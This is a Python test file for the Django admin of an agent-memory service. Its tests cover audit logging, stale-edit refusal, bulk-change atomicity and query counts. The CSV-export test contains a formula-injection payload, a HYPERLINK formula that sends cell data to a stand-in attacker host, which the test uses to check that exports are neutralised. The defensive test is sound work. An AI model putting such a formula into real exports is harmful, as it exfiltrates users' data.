"""The admin, and what staff change: nothing past the services, nothing unaudited."""

import csv
import io
import re

import pytest
from django.contrib import admin
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from agentstate.ids import new_id
from tests.people import append, make_session


def remember(api, subject, count):
    facts = [{"fact": f"fact number {n} of {subject}"} for n in range(count)]
    body = {"subject": subject, "facts": facts}
    return [f["id"] for f in api.post("/api/v1/memory", body).json["items"]]


def audit_of(api, action):
    path, params = "/api/v1/audit", {"action": action, "limit": "1000"}
    return api.get(path, params=params).json["items"]


def test_ad_02_no_list_is_edited_in_place():
    for model, options in admin.site._registry.items():
        assert not options.list_editable, model


def test_ad_02_a_change_of_what_changed_meanwhile_is_refused(api, browse, project):
    [fact, other] = remember(api, "u-1", 2)
    client = browse("reviewer")
    url = f"/p/{project.slug}/memory/facts/"
    body = {"fact": "by API", "expected_version": 1, "reason": "r"}
    assert api.patch(f"/api/v1/memory/{other}", body).status_code == 200
    for each in (fact, other):  # the pages were loaded before that
        form = {"fact": f"by hand {each}", "version": "1", "reason": "looked at it"}
        client.post(f"{url}{each}/correct/", form)
    assert api.get(f"/api/v1/memory/{fact}").json["fact"] == f"by hand {fact}"
    assert api.get(f"/api/v1/memory/{other}").json["fact"] == "by API"
    assert len(audit_of(api, "memory.corrected")) == 2


FORMULAS = [
    '=HYPERLINK("https://evil.example.test/?"&A1,"x")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    " =1",
    "-5",
]


def test_ad_03_no_cell_of_an_export_is_a_formula(api, browse, project):
    for text in FORMULAS:
        assert api.post("/api/v1/memory", {"subject": "=u", "fact": text}).json["id"]
    client = browse("reviewer")
    url = f"/p/{project.slug}/memory/export/"
    form = {"subject": "=u", "format": "csv", "reason": "asked for"}
    sheet = client.post(url, form).getvalue().decode()
    header, *rows = csv.reader(io.StringIO(sheet, newline=""))
    assert sorted(row[2].removeprefix("'") for row in rows) == sorted(
        t.strip() if t.strip() != t and f"'{t}" not in sheet else t for t in FORMULAS
    )
    for row in rows:
        assert row[1] == "'=u"
        assert row[2].startswith("'")
        assert float(row[5]) == 1.0  # a number stays one
    told = client.post(url, form | {"format": "json"}).getvalue().decode()
    from agentstate import codec

    texts = {fact["fact"] for fact in codec.loads(told)["facts"]}
    assert texts == {row[2].removeprefix("'") for row in rows}


@pytest.fixture
def root(make_user):
    client = Client()
    client.force_login(make_user(is_staff=True, is_superuser=True))
    return client


GROWING = (
    "session",
    "event",
    "artifact",
    "run",
    "step",
    "effectrecord",
    "fact",
    "auditentry",
)


def test_ad_04_no_list_counts_a_table_that_grows(api, root):
    append(api, make_session(api), 3)
    remember(api, "u-1", 1)
    for model in admin.site._registry:
        if model._meta.model_name not in GROWING:
            continue
        url = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        for query in ("", "?p=2", "?q=x"):
            with CaptureQueriesContext(
                connection,
            ) as queries:
                assert root.get(url + query).status_code == 200, url
            table = model._meta.db_table
            counts = [q["sql"] for q in queries if "COUNT(" in q["sql"]]
            assert not [sql for sql in counts if f'"{table}"' in sql], url


def test_ad_04_no_form_loads_all_users(root, project, make_user):
    other = make_user()
    page = root.get("/admin/access_app/member/add/").content.decode()
    assert other.username not in page


@pytest.mark.parametrize(
    ("action", "entry"),
    [("reject", "memory.rejected"), ("forget", "memory.forgotten")],
)
def test_ad_06_each_fact_of_a_bulk_change_has_its_entry(
    api, browse, project, action, entry
):
    ids = remember(api, "u-1", 20)
    form = {"fact": ids, "action": action, "reason": "wrong import"}
    browse("reviewer").post(f"/p/{project.slug}/memory/facts/bulk/", form)
    entries = audit_of(api, entry)
    assert {e["object"] for e in entries} == {f"memory:{id_}" for id_ in ids}
    assert len(entries) == 20
    assert {e["reason"] for e in entries} == {"wrong import"}
    assert all(e["actor"].startswith("user:") for e in entries)


def test_ad_06_a_bulk_change_that_fails_leaves_nothing(api, browse, project):
    ids = remember(api, "u-1", 5)
    missing = "0199b2a0-8a10-7d12-8f6e-5d1c0a9b7e42"
    form = {"fact": [*ids, missing], "action": "reject", "reason": "r"}
    browse("reviewer").post(f"/p/{project.slug}/memory/facts/bulk/", form)
    assert audit_of(api, "memory.rejected") == []
    listed = api.get("/api/v1/memory", params={"subject": "u-1"}).json["items"]
    assert {fact["status"] for fact in listed} == {"active"}


def test_ad_07_the_history_names_only_what_changed(api, browse, project):
    [fact] = remember(api, "u-1", 1)
    form = {"fact": "B", "version": "1", "reason": "she said so"}
    client = browse("reviewer")
    client.post(f"/p/{project.slug}/memory/facts/{fact}/correct/", form)
    newest, *_ = api.get(f"/api/v1/memory/{fact}/history").json["items"]
    told = set(newest["changes"]) - {"settled_by", "settled_at", "updated_at"}
    assert told == {"fact"}
    assert newest["changes"]["fact"] == ["fact number 0 of u-1", "B"]


def test_looking_at_a_person_is_in_the_audit_log_once(api, browse, project):
    remember(api, "u-1", 1)
    client = browse("reviewer")
    for _ in range(3):
        client.get(f"/p/{project.slug}/memory/subject/?subject=u-1")
    assert len(audit_of(api, "subject.viewed")) == 1


def test_support_staff_see_memory_only_in_the_admin(api, make_user, project):
    append(api, make_session(api, title="not for support"), 1)
    remember(api, "u-1", 1)
    from django.contrib.auth.models import Permission

    user = make_user(project, "reviewer", is_staff=True)
    names = ["view_fact", "view_session", "view_event", "view_run", "view_auditentry"]
    user.user_permissions.set(Permission.objects.filter(codename__in=names))
    client = Client()
    client.force_login(user)
    assert "u-1" in client.get("/admin/memory_app/fact/").content.decode()
    for path in ("sessions_app/session", "sessions_app/event", "runs_app/run"):
        page = client.get(f"/admin/{path}/").content.decode()
        rows = re.findall(r"<tr[^>]*>.*?</tr>", page, re.S)
        assert project.name not in "".join(rows)


def test_the_admin_names_the_server_and_has_its_icon(project):
    from django.contrib.auth.models import User

    client = Client()
    client.force_login(User.objects.create_superuser(f"s-{new_id()}"))
    html = client.get("/admin/").content.decode()
    assert "AgentState</title>" in html.replace("\n", "").replace("  ", "")
    assert 'rel="icon"' in html and "img/icon.svg" in html
